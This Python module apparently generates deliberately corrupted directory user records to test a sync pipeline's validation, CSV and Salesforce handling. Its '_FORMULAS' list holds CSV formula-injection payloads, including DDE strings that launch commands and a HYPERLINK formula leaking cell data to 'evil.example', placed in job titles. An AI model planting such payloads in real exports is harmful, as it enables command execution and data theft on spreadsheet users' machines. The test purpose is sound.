"""Messy records: the values real directories hold that break validation, CSV or Salesforce.

Each kind damages one clean record in one way, so a test (or the engine's quarantine report)
can attribute a failure to its cause. The UPN is never damaged: Entra itself enforces it.
"""

from __future__ import annotations

import random
from typing import Any

MESSY_KINDS: tuple[str, ...] = (
    "missing_surname",  # Salesforce LastName is required
    "missing_mail",  # Salesforce Email is required
    "bad_mail",  # "john.doe@", no "@", "a@b@c"
    "long_given_name",  # givenName > 40 (FirstName max length)
    "long_surname",  # surname > 80 (LastName max length)
    "duplicate_nickname",  # mailNickname shared with another user
    "comma",  # "Last, First" display names, titles with commas
    "double_quote",  # 'Robert "Bob"'
    "newline",  # embedded CR/LF in department and title
    "surrounding_spaces",  # leading/trailing blanks (Bulk CSV values are not trimmed)
    "na_text",  # "#N/A", which Bulk 2.0 reads as "set this field to null"
    "formula",  # CSV/formula injection text
    "emoji",  # astral-plane characters, ZWJ sequences, flags
)

_LONG_GIVEN_PARTS = (
    "de los Ángeles",
    "Guadalupe",
    "Concepción",
    "del Carmen",
    "Esperanza",
    "Maximilian",
    "Friedrich",
    "Wilhelmina",
    "Anastasia",
    "Bartholomew",
)
_LONG_SURNAME_PARTS = (
    "Wolfeschlegelsteinhausenbergerdorff",
    "Fernández de Córdoba",
    "Mountbatten-Windsor",
    "Vandenbroucke",
    "Schleswig-Holstein-Sonderburg-Glücksburg",
    "Papadimitriou",
    "Abdelrahman",
    "Ó Súilleabháin",
)
_NICKNAMES = ("Bob", "Kiki", "Jay", "Mo", "Zee", "Bubba", "Lulu")
_FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C notepad'!'A1'",
)
_EMOJI = ("🌸", "🚀", "😀", "👩‍💻", "🇩🇪", "🎉", "🧑🏽‍🔬")


def _display(record: dict[str, Any]) -> str:
    return " ".join(part for part in (record["givenName"], record["surname"]) if part)


def make_messy(kind: str, record: dict[str, Any], rng: random.Random, previous_nickname: str | None) -> None:
    """Damage ``record`` in place in the way ``kind`` names."""
    local, _, domain = record["userPrincipalName"].partition("@")
    if kind == "missing_surname":
        record["surname"] = None
        record["displayName"] = record["givenName"]
    elif kind == "missing_mail":
        record["mail"] = None
    elif kind == "bad_mail":
        record["mail"] = rng.choice((f"{local}@", f"{local}.{domain}", f"{local}@{domain}@{domain}"))
    elif kind == "long_given_name":
        given = record["givenName"]
        while len(given) <= 40:
            given = f"{given} {rng.choice(_LONG_GIVEN_PARTS)}"
        record["givenName"] = given
        record["displayName"] = _display(record)
    elif kind == "long_surname":
        surname = record["surname"]
        while len(surname) <= 80:
            surname = f"{surname}-{rng.choice(_LONG_SURNAME_PARTS)}"
        record["surname"] = surname
        record["displayName"] = _display(record)
    elif kind == "duplicate_nickname":
        # The previous clean user's nickname (none before the very first user).
        record["mailNickname"] = previous_nickname or local
    elif kind == "comma":
        record["displayName"] = f"{record['surname']}, {record['givenName']}"
        record["jobTitle"] = f"Director, {record['department']}, EMEA"
    elif kind == "double_quote":
        record["givenName"] = f'{record["givenName"]} "{rng.choice(_NICKNAMES)}"'
        record["displayName"] = _display(record)
    elif kind == "newline":
        record["department"] = f"{record['department']}\nEMEA"
        record["jobTitle"] = f"{record['jobTitle'] or 'Specialist'}\r\n(interim)"
    elif kind == "surrounding_spaces":
        record["givenName"] = f" {record['givenName']}"
        record["surname"] = f"{record['surname']}  "
        record["displayName"] = f"{_display(record)} "
    elif kind == "na_text":
        if rng.random() < 0.5:
            record["surname"] = "#N/A"
        else:
            record["jobTitle"] = "#N/A"
            record["department"] = "N/A"
    elif kind == "formula":
        record["jobTitle"] = rng.choice(_FORMULAS)
    elif kind == "emoji":
        emoji = rng.choice(_EMOJI)
        if rng.random() < 0.5:
            record["givenName"] = f"{record['givenName']} {emoji}"
        else:
            record["surname"] = f"{record['surname']}{emoji}"
        record["displayName"] = _display(record)
    else:
        raise ValueError(f"unknown messy kind {kind!r}")
